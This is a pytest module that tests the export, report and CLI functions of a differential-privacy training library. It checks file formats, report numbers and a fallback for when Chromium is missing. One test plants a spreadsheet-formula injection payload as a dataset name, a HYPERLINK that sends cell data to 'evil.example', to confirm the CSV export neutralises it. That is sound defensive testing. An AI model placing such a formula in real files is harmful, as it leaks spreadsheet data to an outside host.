"""Every export format is what it claims; the report's numbers are the store's; no Chromium is explained."""

import csv
import dataclasses
import html
import io
import json
import xml.etree.ElementTree as ET

import pytest

from dpsat_core import RunStore, SweepSpec, TrainConfig, cached_analyses, figures, run_hessian, sweep
from dpsat_core.cli import main
from dpsat_core.compare import comparisons_at, group_runs, verdict
from dpsat_core.export import ExportError, figure_bytes, results_csv, results_json
from dpsat_core.report import (
    ACCURACY_CELLS,
    bottom_line_rows,
    build_report,
    render_html,
    report_figures,
    write_report,
)

pytestmark = pytest.mark.xdist_group("export")  # under `pytest -n`: one worker runs this module, so `swept` trains once


@pytest.fixture(scope="module")
def swept(tmp_path_factory) -> RunStore:
    """A store with a small sweep of every method (trained once for the module), Hessians at ε = 2."""
    store = RunStore(tmp_path_factory.mktemp("export") / "runs.db")
    spec = SweepSpec(
        base=TrainConfig(dataset="breast_cancer", epochs=1, batch_size=64),
        methods=("sgd", "dpsgd", "dpsam", "dpsat"),
        epsilons=(2.0, 6.0),
        seeds=(0, 1),
    )
    sweep(spec, store)
    for r in store.list_runs():
        if r.config.epsilon == 2.0:
            run_hessian(store, r.run_id, trace_probes=10, k=2)
    return store


@pytest.fixture
def figure(swept):
    return figures.accuracy_vs_epsilon(group_runs(swept.list_runs()))


def test_images_are_what_they_claim(figure):
    assert figure_bytes(figure, "png").startswith(b"\x89PNG\r\n\x1a\n")
    assert figure_bytes(figure, "pdf").startswith(b"%PDF")
    svg = ET.fromstring(figure_bytes(figure, "svg"))
    assert svg.tag.endswith("svg") and "Test accuracy vs privacy budget" in ET.tostring(svg, encoding="unicode")


def test_html_is_self_contained_with_the_data(figure):
    page = figure_bytes(figure, "html").decode()
    assert "<script src=" not in page  # nothing loaded from the network
    assert "Plotly.newPlot" in page and len(page) > 3_000_000  # plotly.js (≈4.8 MB) is embedded
    assert "DP-SAT" in page and "Test accuracy vs privacy budget" in page


def test_results_have_one_row_per_run_with_the_stores_numbers(swept):
    records = swept.list_runs()
    spectra = cached_analyses(swept, [r.run_id for r in records], "hessian", trace_probes=10, k=2)
    rows = list(csv.DictReader(io.StringIO(results_csv(records, spectra).decode())))
    assert len(rows) == len(records) == 2 + 3 * 2 * 2
    by_id = {r["run_id"]: r for r in json.loads(results_json(records, spectra))}
    for record in records:
        row = by_id[record.run_id]
        assert row["test_accuracy"] == record.test_accuracy and row["epsilon_spent"] == record.epsilon_spent
        assert row["target_epsilon"] == record.target_epsilon and "config.epsilon" not in row
        assert row["config.method"] == record.method and row["seconds"] == record.summary.seconds
        assert (row["lambda_max"] is not None) == (record.run_id in spectra)
        if record.run_id in spectra:  # the trace comes with its uncertainty
            assert row["trace_stderr"] == spectra[record.run_id].trace_stderr > 0
    assert {"lambda_max", "trace", "trace_stderr", "epsilon_spent", "test_accuracy", "seconds"} <= set(rows[0])


def test_the_reports_headline_numbers_are_the_stores(swept, tmp_path):
    report = build_report(swept)
    stats = group_runs(swept.list_runs())
    assert [row.privacy for row in report.headline] == ["ε=2", "ε=6"]
    for row, epsilon in zip(report.headline, (2.0, 6.0)):
        expected = next(c for c in comparisons_at(stats, epsilon) if c.method == "dpsat")
        got = next(c for c in row.comparisons if c.method == "dpsat")
        assert got.accuracy == expected.accuracy and got.accuracy.n_pairs == 2
        assert {c.method: c.accuracy_mean for c in row.cells} == {
            c.method: c.accuracy_mean for c in stats if c.target_epsilon == epsilon
        }
    files = write_report(report, tmp_path)
    page = files.html.read_text()
    dpsat_2 = next(c for c in report.stats if c.method == "dpsat" and c.target_epsilon == 2.0)
    assert f"{100 * dpsat_2.accuracy_mean:.1f}% ± {100 * dpsat_2.accuracy_std:.1f}" in page
    assert html.escape(ACCURACY_CELLS) in page  # what ± means, said under the tables
    assert html.escape(verdict(report.headline[0].comparisons[0])) in page
    assert "<svg" in page and html.escape(report.caveat) in page
    assert files.pdf.read_bytes().startswith(b"%PDF")
    # page 1 is the bottom line: the manager's numbers per comparison, before the question and the evidence
    assert page.index("Bottom line") < page.index("The question") < page.index("The evidence")
    first_page = page[: page.index("The question")]
    rows = bottom_line_rows(report)
    assert len(rows) == sum(len(r.comparisons) for r in report.headline) == 4
    for what, accuracy, compute, privacy, reading in rows:
        assert html.escape(accuracy) in first_page and html.escape(reading) in first_page
        assert html.escape(compute) in first_page and ("(measured" not in compute or "95% interval" in compute)
    assert not any(jargon in first_page for jargon in ("σ", "PRV", "clip"))  # no unexplained jargon up front
    assert "break-after:avoid" in page and "λ_max is the largest curvature" in page
    # what ε covers, once: breast_cancer's documented bounds read nothing private
    assert report.privacy_notes == (swept.list_runs(method="dpsgd")[0].privacy_note,)
    assert html.escape(report.privacy_notes[0]) in page and "read nothing private" in report.privacy_notes[0]


def test_every_report_figure_labels_its_axes_and_says_what_its_error_bars_are(swept):
    from dpsat_core.caveats import TRAINING_DATA

    drawn = report_figures(build_report(swept))
    for title, fig in drawn.items():
        axes = [k for k in fig.layout.to_plotly_json() if k.startswith(("xaxis", "yaxis"))]
        assert axes and all(fig.layout[k].title.text for k in axes), title
        assert TRAINING_DATA not in (fig.layout.title.subtitle.text or ""), title  # the caveats say it once
    assert drawn["Accuracy vs ε"].layout.title.subtitle.text == figures.ERROR_BARS
    assert not drawn["Wall time of the runs"].layout.title.subtitle.text  # bars, not points with a spread


def test_without_chromium_images_explain_the_fix_and_html_csv_still_work(swept, figure, tmp_path, monkeypatch):
    monkeypatch.setenv("BROWSER_PATH", str(tmp_path / "no-such-browser"))
    with pytest.raises(ExportError, match="apt-get install chromium"):
        figure_bytes(figure, "png")
    assert b"Plotly.newPlot" in figure_bytes(figure, "html")
    assert results_csv(swept.list_runs())
    files = write_report(build_report(swept), tmp_path / "report")
    assert files.pdf is None and "install Chromium" in files.note
    assert "Plotly.newPlot" in files.html.read_text()


def test_cli_report_and_export(swept, tmp_path, capsys):
    assert main(["report", "--store", str(swept.path), "--out", str(tmp_path)]) == 0
    out = capsys.readouterr().out
    assert (tmp_path / "report.html").exists() and (tmp_path / "report.pdf").exists()
    assert "At ε=2, DP-SAT (ρ=0.05) vs DP-SGD:" in out and "seed pairs" in out
    assert main(["compare", "--json", "--store", str(swept.path)]) == 0
    rows = json.loads(capsys.readouterr().out)
    keys = {"method", "baseline", "target_epsilon", "epsilon_spent", "rho", "n_pairs", "gain_points", "ci_low"}
    keys |= {"ci_high", "cost_ratio", "cost_ratio_spread", "cost_ratio_ci", "backward_passes_ratio", "verdict"}
    keys |= {"sharpness_ratio"}
    keys |= {"sharpness_ratio_ci", "sharpness_ratio_pairs", "lambda_max_ratio", "lambda_max_ratio_ci"}
    keys |= {"sharpness_ratio_withheld", "lambda_max_ratio_withheld"}
    assert all(keys <= set(row) for row in rows)
    assert [(r["method"], r["target_epsilon"]) for r in rows] == [
        ("dpsam", 2.0),
        ("dpsam", 6.0),
        ("dpsat", 2.0),
        ("dpsat", 6.0),
    ]
    dpsam = rows[0]
    assert dpsam["baseline"] == "dpsgd" and dpsam["n_pairs"] == 2 and dpsam["backward_passes_ratio"] == 2
    assert dpsam["ci_low"] <= dpsam["gain_points"] <= dpsam["ci_high"]
    low, high = dpsam["cost_ratio_spread"]  # measured by the probe on first use, then stored
    assert low <= dpsam["cost_ratio"] <= high and "compute per step (measured" in dpsam["verdict"]
    ci_low, ci_high = dpsam["cost_ratio_ci"]  # the median's 95% interval lies inside the rounds' spread
    assert low <= ci_low <= dpsam["cost_ratio"] <= ci_high <= high
    assert (
        f"(measured; 95% CI {ci_low:.2f}–{ci_high:.2f} over this probe's rounds, rounds' IQR {low:.2f}–{high:.2f})"
        in dpsam["verdict"]
    )
    assert main(["compare", "--no-probe", "--store", str(swept.path)]) == 0
    assert "compute per step (measured" in capsys.readouterr().out  # the stored probe is reused
    assert all("(measured; 95% interval " in compute for _, _, compute, _, _ in bottom_line_rows(build_report(swept)))
    assert main(["export", "--format", "json", "--store", str(swept.path)]) == 0
    assert len(json.loads(capsys.readouterr().out)) == len(swept.list_runs())
    assert main(["report", "--store", str(swept.path), "--out", str(tmp_path), "--dataset", "digits"]) == 2
    assert "no finished runs for data set 'digits'" in capsys.readouterr().err


def _stored_run(store: RunStore, dataset: str, target: str) -> str:
    """A finished run on a data set named by the user (no training: a plausible summary is stored)."""
    from tests.factories import summary

    config = TrainConfig(dataset=dataset, target=target, method="dpsgd", epsilon=2.0, epochs=1)
    run_id = store.create_run(config)
    store.finish(run_id, summary(config, accuracy=0.75, epsilon_spent=1.9, seconds_per_epoch=1.0), {})
    return run_id


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_csv_cells_a_spreadsheet_would_run_are_made_inert_and_numbers_stay_numbers(start, tmp_path, capsys):
    from tests.factories import spectrum

    store = RunStore(tmp_path / "runs.db")
    dataset = f'{start}HYPERLINK("http://evil.example/?"&A1,"open").csv'
    run_id = _stored_run(store, dataset, f"{start}SUM(A1:A9)")
    spectra = {run_id: spectrum(-0.05)}  # a negative trace (-0.5) is a number, not a formula
    (row,) = csv.DictReader(io.StringIO(results_csv(store.list_runs(), spectra).decode()))
    assert row["config.dataset"] == "'" + dataset and row["config.target"] == f"'{start}SUM(A1:A9)"
    assert row["trace"] == "-0.5" and row["lambda_max"] == "-0.05" and row["test_accuracy"] == "0.75"
    assert main(["export", "--format", "csv", "--store", str(store.path)]) == 0  # the CLI writes the same
    (cli_row,) = csv.DictReader(io.StringIO(capsys.readouterr().out))
    assert cli_row["config.dataset"] == "'" + dataset


def test_a_lone_sign_or_a_dash_for_a_blank_is_no_formula():
    from dpsat_core.export import inert_cell

    assert [inert_cell(v) for v in ("-", "+", "—", "", "data.csv", -0.5, None)] == [
        "-",
        "+",
        "—",
        "",
        "data.csv",
        -0.5,
        None,
    ]
    assert [inert_cell(v) for v in ("-1+2", "=1", "@SUM(A1)", "\tx")] == ["'-1+2", "'=1", "'@SUM(A1)", "'\tx"]


def test_the_report_writes_an_infinite_epsilon_as_infinity(swept):
    import dataclasses
    import math

    report = build_report(swept)
    row = report.headline[0]
    cells = (dataclasses.replace(row.cells[0], epsilon_spent_mean=math.inf), *row.cells[1:])
    page = render_html(
        dataclasses.replace(report, headline=(dataclasses.replace(row, cells=cells),)), static_images=False
    )
    assert "ε spent ∞" in page and "ε spent inf" not in page


def test_the_report_names_only_the_methods_it_has_and_the_accountant_once(swept):
    import dataclasses

    report = build_report(swept)
    page = render_html(report, static_images=False)
    assert "DP-SAM" in page and page.count("PRV") == 1  # in the setting line only
    without_sam = dataclasses.replace(
        report,
        stats=tuple(c for c in report.stats if c.method != "dpsam"),
        headline=tuple(
            dataclasses.replace(
                row,
                cells=tuple(c for c in row.cells if c.method != "dpsam"),
                comparisons=tuple(c for c in row.comparisons if c.method != "dpsam"),
            )
            for row in report.headline
        ),
        one_class="",  # it names the methods of the runs that predict one class (these tiny runs do)
    )
    page = render_html(without_sam, static_images=False)
    assert "DP-SAM" not in page and "DP-SAT" in page


def test_exports_say_what_the_randomness_of_a_run_and_training_data_figures_are(swept):
    from dpsat_core.caveats import SEEDED_NOISE, TRAINING_DATA
    from dpsat_core.export import results_rows

    records = swept.list_runs()
    notes = {r["run_id"]: r["randomness_note"] for r in results_rows(records)}
    assert {notes[r.run_id] for r in records if r.config.private} == {SEEDED_NOISE}
    assert {notes[r.run_id] for r in records if not r.config.private} == {""}  # no noise to speak of
    assert SEEDED_NOISE in results_csv(records).decode()
    # a downloaded sharpness or wall-time figure carries the label with it
    stats = group_runs(records, cached_analyses(swept, [r.run_id for r in records], "hessian", trace_probes=10, k=2))
    for fig, caveat in (
        (figures.hessian_vs_epsilon(stats), TRAINING_DATA),
        (figures.cost_per_epoch(stats), "ε does not cover"),
    ):
        assert caveat in figure_bytes(fig, "html").decode()
        assert caveat in ET.tostring(ET.fromstring(figure_bytes(fig, "svg")), encoding="unicode")
    assert TRAINING_DATA not in str(figures.accuracy_vs_epsilon(stats).layout.title)  # test accuracy: not labelled


def test_the_report_says_once_what_epsilon_does_not_cover(swept):
    from dpsat_core.caveats import SEEDED_NOISE, TRAINING_DATA
    from dpsat_core.compare import RATIO_INTERVAL
    from dpsat_core.report import MEASURES, uncovered
    from dpsat_core.results import DEFAULT_SAMPLES

    report = build_report(swept)
    page = render_html(report, static_images=True)
    # in the caveats and where the sharpness ratios are defined (`RATIO_INTERVAL`), not per figure
    assert page.count(TRAINING_DATA) == 2 and page.count(SEEDED_NOISE) == 1
    assert html.escape(f"{MEASURES} {RATIO_INTERVAL}") in page and TRAINING_DATA in RATIO_INTERVAL
    assert f"fixed {DEFAULT_SAMPLES:,}-row training subset" in MEASURES
    assert page.index("What ε does not cover") > page.index("The evidence")
    assert "Sharpness" in report.uncovered and "wall time per epoch" in report.uncovered
    # a setting of release-mode runs has no seeded noise to warn about
    release = [
        dataclasses.replace(r, config=dataclasses.replace(r.config, randomness="release")) for r in swept.list_runs()
    ]
    assert SEEDED_NOISE not in uncovered(release) and TRAINING_DATA in uncovered(release)


def test_the_reports_caveats_say_epsilon_is_per_run_and_what_the_intervals_cover(swept):
    from dpsat_core.caveats import EVALUATION_ROWS, PER_RUN
    from dpsat_core.compare import INTERVAL_COVERS, RATIO_INTERVAL
    from dpsat_core.report import uncovered
    from tests.factories import record

    page = render_html(build_report(swept), static_images=False)
    per_run = html.escape(PER_RUN)
    assert page.count(per_run) == 1 and page.index(per_run) > page.index("What ε does not cover")
    assert html.escape(INTERVAL_COVERS) in page  # the runs stored their test-set size: no "only" note
    assert html.escape(RATIO_INTERVAL) in page
    assert "seed-to-seed spread only" not in page and "seed-to-seed variation only" not in page
    assert PER_RUN not in uncovered([record("sgd", None, 0, 0.9)])  # no ε to speak of
    evaluation = html.escape(EVALUATION_ROWS)  # the accuracies the report is about: held-out rows, no noise
    assert page.count(evaluation) == 1 and page.index(evaluation) > page.index("What ε does not cover")
    assert EVALUATION_ROWS not in uncovered([record("sgd", None, 0, 0.9)])
